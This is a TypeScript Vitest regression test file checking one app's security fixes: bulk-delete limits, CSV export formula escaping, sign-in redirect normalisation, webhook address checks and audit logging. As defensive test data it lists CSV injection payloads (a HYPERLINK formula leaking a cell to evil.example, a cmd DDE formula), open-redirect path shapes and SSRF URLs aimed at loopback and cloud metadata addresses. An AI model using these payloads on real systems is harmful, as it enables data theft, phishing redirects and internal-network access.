import { beforeEach, describe, expect, it, vi } from "vitest";
import { createApiKey } from "@/lib/api-keys/manage";
import { bulkDeleteFromListEndpoint } from "@/lib/api/dialects/talkdesk";
import { destroyRecordEndpoint } from "@/lib/api/dialects/zeeg";
import { encryptSecret } from "@/lib/api-keys/secrets";
import { db } from "@/lib/db/client";
import { MAX_BULK_IDS } from "@/lib/records/schemas";
import { softDeleteRecords } from "@/lib/trash/delete";
import { isPrivateAddress, webhookUrlProblem } from "@/lib/webhooks/address";
import { DEFAULT_AFTER_SIGN_IN, safeCallbackPath, safeRedirect } from "@/lib/universal/callback-url";
import { withTestDatabase } from "@/test/db";
import { makeRecord, makeRecords, makeWorkspace, NOW, type TestWorkspace } from "@/test/fixtures";

// Issue 26's findings that live in the domain (the second hardening round), each proved through
// the door that was probed. Only the session is mocked (what next-auth decodes from the cookie).
const session = vi.hoisted(() => ({ current: null as null | { user: { id: string; workspaceId: string } } }));
vi.mock("next-auth", () => ({ getServerSession: async () => session.current }));

const { revealWebhookSecretAction, sendDigestNowAction } = await import("@/lib/actions/webhooks");
const { GET: recordsExport } = await import("@/app/api/app/records/export/route");
const { GET: trashExport } = await import("@/app/api/app/trash/export/route");
const { GET: auditExport } = await import("@/app/api/app/audit/export/route");

withTestDatabase();
beforeEach(() => {
  session.current = null;
});

const signInAs = (ws: TestWorkspace, who: keyof TestWorkspace["actors"]) => {
  session.current = { user: { id: ws.actors[who].userId, workspaceId: ws.id } };
};

async function bearer(ws: TestWorkspace, who: keyof TestWorkspace["actors"]) {
  return (await createApiKey(ws.actors[who], { name: "probe" }, NOW)).apiSecret;
}

describe("#1 bulk delete by phone number: the cap counts records, not identifiers", () => {
  const talkdeskBulk = async (secret: string, body: unknown) =>
    bulkDeleteFromListEndpoint.handler(
      new Request("http://localhost/record-lists/leads/records/bulk", {
        method: "DELETE",
        headers: { authorization: `Bearer ${secret}`, "content-type": "application/json" },
        body: JSON.stringify(body),
      }),
      { params: Promise.resolve({ recordListId: "leads" }) },
    );

  it(`#1 two phone numbers naming 650 leads each (1,300 > ${MAX_BULK_IDS}) are refused with the dialect's limit error; nothing changes`, async () => {
    const ws = await makeWorkspace();
    await makeRecords(ws, 650, { phoneNumber: "+15550100001" });
    await makeRecords(ws, 650, { phoneNumber: "+15550100002" });
    const response = await talkdeskBulk(await bearer(ws, "member"), [
      { phone_number: "+1 (555) 010-0001" },
      { phone_number: "+15550100002" },
    ]);
    expect(response.status).toBe(400);
    expect(await response.json()).toMatchObject({
      code: "BAD_REQUEST",
      description: expect.stringMatching(/At most 1000 records per call/),
    });
    expect(await db().record.count({ where: { deletedAt: { not: null } } })).toBe(0);
    expect(await db().auditLog.count({ where: { action: "records.delete" } })).toBe(0);
  });

  it("#1 under the cap, the answer lists every record it deleted in _embedded.deleted_records", async () => {
    const ws = await makeWorkspace();
    const named = await makeRecords(ws, 850, { phoneNumber: "+15550100003" });
    const response = await talkdeskBulk(await bearer(ws, "member"), [{ phone_number: "+15550100003" }]);
    expect(response.status).toBe(200);
    const body = (await response.json()) as {
      total_deleted: number;
      _embedded: { deleted_records: { id: string; _links: { self: { href: string } } }[] };
    };
    expect(body.total_deleted).toBe(850);
    expect(body._embedded.deleted_records.map((r) => r.id).sort()).toEqual(named.map((r) => r.id).sort());
    expect(body._embedded.deleted_records[0]!._links.self.href).toMatch(/^\/record-lists\/leads\/records\//);
  });
});

describe("#2 CSV exports neutralise formulas (OWASP CSV injection)", () => {
  const FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\tTAB=1",
    "\rCR=1",
  ];
  const cells = (csv: string) => csv.split(/\r?\n/).join("\n");

  it("#2 records, trash (all and a selection) and audit exports prefix every formula-looking cell with '; the stored value is as typed", async () => {
    const ws = await makeWorkspace();
    const live = await Promise.all(
      FORMULAS.map((name) => makeRecord(ws, { name, attributes: { status: name, "=evil": "x" } })),
    );
    const trashed = await Promise.all(FORMULAS.map((name) => makeRecord(ws, { name, attributes: { status: name } })));
    await softDeleteRecords(ws.actors.admin, { ids: trashed.map((r) => r.id) }, NOW);
    signInAs(ws, "admin");
    const exports = {
      records: await (await recordsExport(new Request("http://localhost/api/app/records/export?entity=leads"))).text(),
      trash: await (await trashExport(new Request("http://localhost/api/app/trash/export?scope=all"))).text(),
      selection: await (
        await trashExport(
          new Request(`http://localhost/api/app/trash/export?ids=${trashed.map((r) => r.id).join(",")}`),
        )
      ).text(),
      audit: await (await auditExport(new Request("http://localhost/api/app/audit/export"))).text(),
    };
    for (const [name, csv] of Object.entries(exports)) {
      const text = cells(csv);
      for (const formula of FORMULAS.slice(0, 4)) {
        const quoted = `'${formula}`.includes('"') ? `"'${formula.replaceAll('"', '""')}"` : `'${formula}`;
        if (name !== "audit") expect(text, `${name}: ${formula}`).toContain(quoted);
      }
      // No cell of any export starts with a formula character.
      expect(text, name).not.toMatch(/(^|,|\n)"?[=+\-@\t\r]/);
    }
    expect(exports.records).toContain("'=evil");
    expect((await db().record.findUniqueOrThrow({ where: { id: live[0]!.id } })).name).toBe(FORMULAS[0]);
  });
});

/** The redirect shapes of issue 26 #4: each resolves, in a browser, to another origin. */
export const REDIRECT_SHAPES = [
  "/.//evil.example",
  "/records/../..//evil.example",
  "/%2e//evil.example",
  "/x/%2e%2e//evil.example/path",
  "/./%2f/evil.example",
  "/%2E%2E//evil.example",
  "/a/..//evil.example",
  "/.%2f/evil.example",
];

describe("#4 sign-in callbacks are normalised like the browser, then only single-slash same-origin paths pass", () => {
  it.each(REDIRECT_SHAPES)("#4 %s falls back to the records page", (shape) => {
    expect(safeCallbackPath(shape)).toBe(DEFAULT_AFTER_SIGN_IN);
    expect(safeRedirect(shape, "https://app.example")).toBe(`https://app.example${DEFAULT_AFTER_SIGN_IN}`);
    expect(safeRedirect(`https://app.example${shape}`, "https://app.example")).toBe(
      `https://app.example${DEFAULT_AFTER_SIGN_IN}`,
    );
  });

  it("#4 ordinary paths still pass, dot segments resolved", () => {
    expect(safeCallbackPath("/records/../trash")).toBe("/trash");
    expect(safeCallbackPath("/records/leads?q=a%2Fb#top")).toBe("/records/leads?q=a%2Fb#top");
  });
});

describe("#8 the webhook URL check at save refuses what the connect check refuses", () => {
  it.each([
    "http://localhost./digest",
    "http://localhost../digest",
    "http://[::127.0.0.1]/digest",
    "http://[::ffff:0:7f00:1]/digest",
    "http://[2002:7f00:1::]/digest",
    "http://[::ffff:127.0.0.1]/digest",
    "http://[::ffff:a9fe:a9fe]/latest/meta-data",
    "http://[2002:a00:1::1]/digest",
  ])("#8 %s is refused at save", (url) => {
    expect(webhookUrlProblem(url, false)).toMatch(/not on the public internet/);
  });

  it("#8 the connect-time check agrees on the same addresses, and public ones pass both", () => {
    for (const address of ["::7f00:1", "::ffff:0:7f00:1", "2002:7f00:1::", "::ffff:7f00:1", "127.0.0.1"])
      expect(isPrivateAddress(address), address).toBe(true);
    for (const address of ["93.184.216.34", "2606:2800:220:1:248:1893:25c8:1946", "2002:5db8:d822::1"])
      expect(isPrivateAddress(address), address).toBe(false);
    expect(webhookUrlProblem("https://hooks.example.com/trash", false)).toBeNull();
    expect(webhookUrlProblem("http://[2606:2800:220:1:248:1893:25c8:1946]/x", false)).toBeNull();
  });
});

describe("#6 every permanent delete, secret shown and outbound send is audited with its actor and key", () => {
  it("#6 a permanent delete through /v2/crm names the API key in its records.destroy entry", async () => {
    const ws = await makeWorkspace();
    const record = await makeRecord(ws);
    const key = await createApiKey(ws.actors.admin, { name: "erasure" }, NOW);
    const response = await destroyRecordEndpoint.handler(
      new Request(`http://localhost/v2/crm/leads/${record.id}`, {
        method: "DELETE",
        headers: { authorization: `Bearer ${key.apiSecret}` },
      }),
      { params: Promise.resolve({ objectSlug: "leads", recordId: record.id }) },
    );
    expect(response.status).toBeLessThan(300);
    const entries = await db().auditLog.findMany({ where: { action: "records.destroy" } });
    expect(entries).toHaveLength(1);
    expect(entries[0]).toMatchObject({ door: "API", apiKeyId: key.id, actorId: ws.actors.admin.userId });
  });

  it("#6 revealing the webhook secret and “Send digest now” each write an entry with the admin", async () => {
    const ws = await makeWorkspace();
    await db().webhook.create({
      data: { workspaceId: ws.id, url: "http://127.0.0.1:9/digest", secretCiphertext: encryptSecret("whsec_probe") },
    });
    signInAs(ws, "admin");
    expect(await revealWebhookSecretAction({})).toEqual({ ok: true, data: { secret: "whsec_probe" } });
    const sent = await sendDigestNowAction({});
    expect(sent.ok).toBe(true);
    const entries = await db().auditLog.findMany({ where: { action: { startsWith: "webhook." } } });
    expect(entries.map((e) => [e.action, e.actorId, e.door])).toEqual(
      expect.arrayContaining([
        ["webhook.reveal_secret", ws.actors.admin.userId, "UI"],
        ["webhook.send_now", ws.actors.admin.userId, "UI"],
      ]),
    );
  });
});
